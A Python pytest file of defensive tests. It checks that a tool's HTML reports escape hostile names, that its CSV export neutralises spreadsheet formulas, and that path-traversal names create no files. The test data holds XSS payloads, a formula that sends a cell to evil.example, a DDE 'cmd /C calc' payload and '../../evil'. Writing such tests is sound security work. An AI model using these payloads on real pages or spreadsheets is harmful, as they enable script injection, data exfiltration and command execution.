"""Names that are markup or formulas: pages and tables show them, and nothing more."""

import csv
import io
import re
import shutil
from collections.abc import Iterator, Mapping
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Final

import pytest

from insonify.cli.main import run as command
from insonify.core.cells import plain_cell
from insonify.core.predictions import write_predictions
from insonify.deploy.search.hits import Hit
from insonify.deploy.search.listing import Listing
from insonify.store import Label, Store, StoreSettings
from tests.conftest import drifting_video
from tests.safety.conftest import some_predictions

WORDS: Final = (
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "</script><svg/onload=alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "javascript:alert(1)",
    "![x](http://evil.example/x)<!--",
)
FORMULAS: Final = (
    '=HYPERLINK("http://evil.example/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


class Shape(HTMLParser):
    """The elements of a page and what could make it act: the same for any name."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.addresses: set[str] = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        known = dict(attrs)
        self.elements.append((tag, tuple(sorted(known))))
        self.addresses |= {known[n] or "" for n in ("src", "href") if n in known}

    def handle_data(self, data: str) -> None:
        self.text += data


def pages_of(word: str, folder: Path) -> Iterator[Path]:
    """Pages about data in which whatever has a name is called ``word``."""
    folder.mkdir()
    write_predictions(
        folder / "p.parquet", some_predictions((word, f"{word} too"), word)
    )
    store = Store.create(folder / "store", StoreSettings())
    video = replace(
        drifting_video(0, frames=12), subject=word, exam=word, facts={"device": word}
    )
    entry = store.write_video(video, "f-0")
    store.commit([entry], labels=[Label(video=video.video, task=word, label=word)])
    commands = {
        "report": [str(folder / "p.parquet"), "--resamples", "1000"],
        "triage": [str(store.path)],
        "card": ["--store", str(store.path)],
    }
    for name, arguments in commands.items():
        out = folder / f"{name}.html"
        assert command([name, *arguments, "--out", str(out)]) == 0
        yield out


@pytest.fixture(scope="module")
def benign(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Shape]:
    folder = tmp_path_factory.mktemp("benign") / "pages"
    return {page.name: Shape(page.read_text()) for page in pages_of("name", folder)}


@pytest.mark.parametrize("word", WORDS)
def test_no_name_becomes_markup(
    word: str, benign: Mapping[str, Shape], tmp_path: Path
) -> None:
    shown = 0
    for page in pages_of(word, tmp_path / "pages"):
        shape = Shape(page.read_text())
        assert shape.elements == benign[page.name].elements, page.name
        assert not [each for each in shape.addresses if "alert" in each]
        shown += word in shape.text
    assert shown >= 1


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_table_is_a_formula(formula: str) -> None:
    hit = Hit(
        position=0, video="v", frame=0, time_s=-0.5, subject=formula, similarity=-0.5
    )
    listing = Listing(tasks=("t",), hits=(hit,), labels=({"t": formula},))
    (row,) = csv.DictReader(io.StringIO(listing.csv().decode(), newline=""))
    escaped = "'" + formula.replace("\r", " ")
    assert row["label t"] == row["subject"] == escaped
    assert (row["time_s"], row["similarity"]) == ("-0.500", "-0.500000")
    assert plain_cell("head") == "head"
    assert plain_cell(-0.5) == -0.5


def test_names_of_a_store_are_no_paths(tmp_path: Path) -> None:
    """Videos, tasks, labels and splits are rows; none names a file."""
    name = "../../evil"
    store = Store.create(tmp_path / "a" / "b" / "store", StoreSettings())
    video = replace(drifting_video(0, frames=12), video=name, subject=name, exam=name)
    entry = store.write_video(video, name)
    store.commit([entry], labels=[Label(video=name, task=name, label=name)])
    out = tmp_path / "a" / "b" / "triage.html"
    assert command(["triage", str(store.path), "--out", str(out)]) == 0
    assert command(["doctor", "--store", str(store.path)]) == 0
    assert {path.name for path in tmp_path.iterdir()} == {"a"}
    assert {path.name for path in (tmp_path / "a").iterdir()} == {"b"}
    assert not re.search("evil", " ".join(p.name for p in tmp_path.rglob("*")))
    shutil.rmtree(store.path)
